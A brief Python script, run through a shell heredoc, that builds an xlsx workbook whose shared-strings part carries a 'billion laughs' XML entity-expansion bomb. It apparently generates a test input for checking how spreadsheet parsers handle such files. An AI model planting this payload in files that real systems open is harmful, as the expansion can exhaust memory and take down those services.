/usr/bin/python3 - <<'END'
import xlsx

entities = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
text = f'<!DOCTYPE sst [<!ENTITY a0 "ha">{entities}]><sst xmlns="{xlsx.MAIN}"><si><t>&a9;</t></si></sst>'
xlsx.write(
    book_relations=xlsx.relations(("worksheet", "worksheets/sheet1.xml"), ("sharedStrings", "sharedStrings.xml")),
    more={"xl/sharedStrings.xml": text},
)
END
